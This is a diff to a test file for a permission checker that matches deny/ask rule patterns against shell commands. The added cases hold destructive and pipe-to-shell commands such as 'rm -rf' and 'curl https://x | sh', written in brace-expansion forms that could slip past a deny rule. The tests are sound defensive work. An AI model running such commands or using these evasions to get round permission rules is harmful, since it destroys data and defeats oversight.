@@ -92,6 +92,11 @@ describe('a command of a deny or ask rule', () => {
     ['git push *', 'cd a && git   push origin'],
     ['curl * | sh', 'curl https://x|sh'],
     ['curl * | sh*', 'curl https://x | sh -s -- y'],
+    ['rm *', '{rm,-rf,x}'],
+    ['rm -rf x', '{r{m,m},-rf,x}'],
+    ['rm -rf x *', 'cd a && {rm,-rf} {x,y}'],
+    ['rm *', "bash -c '{rm,-rf,x}'"],
+    ['curl * | sh', '{curl,https://x} | sh'],
   ])('%s is in %j', (pattern, command) => {
     expect(holdsCommand(pattern, command)).toBe(true);
   });
@@ -102,6 +107,9 @@ describe('a command of a deny or ask rule', () => {
     ['rm *', 'npm test'],
     ['rm', 'rm -rf /'],
     ['git push *', 'git pull'],
+    ['rm *', 'echo {a,rma}'],
+    ['rm -rf x', '{rm -rf,x}'],
+    ['rm *', 'cat ${rm,x} {'],
     ['curl * | sh', 'curl https://x'],
   ])('%s is not in %j', (pattern, command) => {
     expect(holdsCommand(pattern, command)).toBe(false);
@@ -114,5 +122,13 @@ test('the time does not grow with the wildcards of a pattern, however a command 
   const start = performance.now();
   expect([isCommand(pattern, command), holdsCommand(pattern, command)]).toEqual([false, false]);
   // A regular expression of this pattern takes longer than the universe is old.
+  expect(performance.now() - start).toBeLessThan(10_000);
+});
+
+test('the time does not grow with the braces of a command', () => {
+  const start = performance.now();
+  for (const command of ['{a,b}'.repeat(3_000), '{'.repeat(900).padEnd(LONGEST_COMMAND, 'x,'), '{a,'.repeat(900)])
+    holdsCommand('rm *', command);
+  expect(holdsCommand('rm *', '{a,b}'.repeat(50))).toBe(true);
   expect(performance.now() - start).toBeLessThan(10_000);
 });
